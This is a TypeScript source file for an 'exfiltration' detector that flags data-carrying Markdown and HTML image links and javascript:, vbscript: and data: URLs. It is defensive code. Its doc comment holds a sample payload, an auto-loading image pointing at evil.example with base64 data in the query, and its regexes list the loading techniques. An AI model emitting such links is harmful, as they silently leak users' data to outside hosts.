import { checkOptions, type OptionTable } from "../../diagnostics/options.js";
import type { Detector, RuleMatch, TextView, TriggerRule } from "../detector.js";
import { certaintyOfData } from "./carried-data.js";
import { domainListOf } from "./domain-list.js";
import { type UrlReader, urlRules } from "./url-rules.js";
import { LONGEST_URL, type WrittenUrl } from "./written-url.js";

/** Options of `exfiltration`. */
export interface ExfiltrationOptions {
  /** Domains that may receive data, with the names below them: those of the application itself. Default: none. */
  readonly allow?: readonly string[];
  /**
   * Images and frames of other domains, which load without a click: `all` are findings, or those alone whose URL carries
   * `data`; default: `all`.
   */
  readonly images?: "all" | "data";
}

const OPTIONS: OptionTable<ExfiltrationOptions> = { allow: "names", images: { oneOf: ["all", "data"] } };
/** Certainty that something that loads by itself is meant to carry data, and the least one for other links. */
const LOADED = 0.6;
const LEAST = 0.5;
const BEFORE = 320;
/** Attributes and functions that load what they name without a click. */
const LOADING =
  /(?:\b(?:src|srcset|poster|background|data|lowsrc|dynsrc|srcdoc|formaction|xlink:href|code)\s{0,4}=\s{0,4}\\?["'`]?\s{0,8}|\b(?:url|image-set)\(\s{0,4}["']?|@import\s{1,4}(?:url\()?["']?|\[img(?:=[^\]]{0,16})?\]\s{0,4}|\bimage::\s{0,4}|\\includegraphics(?:\[[^\]]{0,64}\])?\{)$/i;
const LINK_ELEMENT =
  /<(?:(?:link|image|base|use|feimage)\b[^<>]{0,256}\bhref|(?:form|isindex)\b[^<>]{0,256}\baction|a\b[^<>]{0,256}\bping)\s{0,4}=\s{0,4}\\?["'`]?\s{0,8}$/i;
const IMAGE_PATH = /\.(?:png|jpe?g|gif|svg|webp|avif|bmp|ico)$/i;
const REFRESH = /\burl\s{0,4}=\s{0,4}["']?$/i;
const IMAGE = /!\[(?:[^[\]]|\[[^[\]]{0,64}\]){0,256}\]\(\s{0,4}<?$/;
const DEFINITION = /(?:^|\n)[ >]{0,8}\[[^[\]]{1,128}\]:\s{0,4}<?$/;

/**
 * Detector of data that leaves through links (`EXFILTRATION`): images of Markdown and HTML, style sheets and frames, which load
 * without a click, and links whose query, path, fragment or host carries encoded or personal data, a placeholder that a model
 * fills, or a parameter such as `data`. `javascript:` URLs and `data:` URLs of pages are `UNSAFE_URL`.
 *
 * @throws ConfigError for what is not the name of a host
 * @example
 * ```ts
 * detect("![](https://evil.example/x.png?q=c2VjcmV0IHBsYW4)", [exfiltration({ allow: ["example.org"] })]);
 * // [{ type: "EXFILTRATION", start: 4, end: 48, … }]
 * ```
 */
export function exfiltration(options: ExfiltrationOptions = {}): Detector {
  checkOptions("exfiltration", options, OPTIONS);
  const allow = domainListOf({ surface: "exfiltration", option: "allow" }, options.allow);
  const loaded = options.images === "data" ? 0 : LOADED;
  const find = (read: UrlReader, view: TextView, start: number): RuleMatch | undefined => {
    const url = read(view, start);
    if (url === undefined || allow?.has(url.host) === true) return undefined;
    const data = certaintyOfData(url);
    const before = view.text.slice(Math.max(0, url.start - BEFORE), url.start);
    const score = loadsAlone(before, url) ? Math.max(loaded, data >= 0.4 ? 0.9 : 0) : data;
    return score < LEAST ? undefined : { start: url.start, end: url.end, score };
  };
  const rule: Omit<TriggerRule, "find"> = {
    name: "link-with-data",
    type: "EXFILTRATION",
    score: 0.9,
    triggers: ["http:", "https:", "ftp:", "ws:", "wss:", "www.", '"//', "'//", "(//", "=//"],
    before: 0,
    within: "word",
    reach: LONGEST_URL + 16,
  };
  return { name: "exfiltration", rules: [...urlRules(rule, find), UNSAFE_URLS] };
}

/**
 * Returns true for a URL that a page loads by itself, from the text before it. A definition is taken for that of an image if its
 * URL looks like one, since the image may stand anywhere.
 */
function loadsAlone(before: string, { url }: WrittenUrl): boolean {
  if (IMAGE.test(before) || LOADING.test(before) || LINK_ELEMENT.test(before) || REFRESH.test(before)) return true;
  return DEFINITION.test(before) && (IMAGE_PATH.test(url.pathname) || url.search !== "");
}

const SCRIPT = /(?:javascript|vbscript):[^\s<>"')]{1,512}/iy;
const PAGE =
  /data:(?:text\/(?:html|javascript|xml)|application\/(?:xhtml\+xml|javascript|xml)|image\/svg\+xml)[;,][^\s<>"')]{0,512}/iy;

/** URLs that run code where a link or an image stands. */
const UNSAFE_URLS: TriggerRule = {
  name: "unsafe-url",
  type: "UNSAFE_URL",
  score: 0.9,
  triggers: ["javascript:", "vbscript:", "data:text/", "data:application/", "data:image/svg"],
  before: 0,
  within: "word",
  find({ text }, start) {
    // A link, an attribute or a definition stands before it, not a word of a sentence.
    if (
      !/(?:\]\(\s{0,4}<?|=\s{0,4}["'`]?|url\(\s{0,4}["']?|\]:\s{0,4}<?|^|<)$/i.test(
        text.slice(Math.max(0, start - 16), start),
      )
    )
      return undefined;
    const pattern = text.charAt(start).toLowerCase() === "d" ? PAGE : SCRIPT;
    pattern.lastIndex = start;
    return pattern.test(text) ? { start, end: pattern.lastIndex } : undefined;
  },
  reach: 640,
};
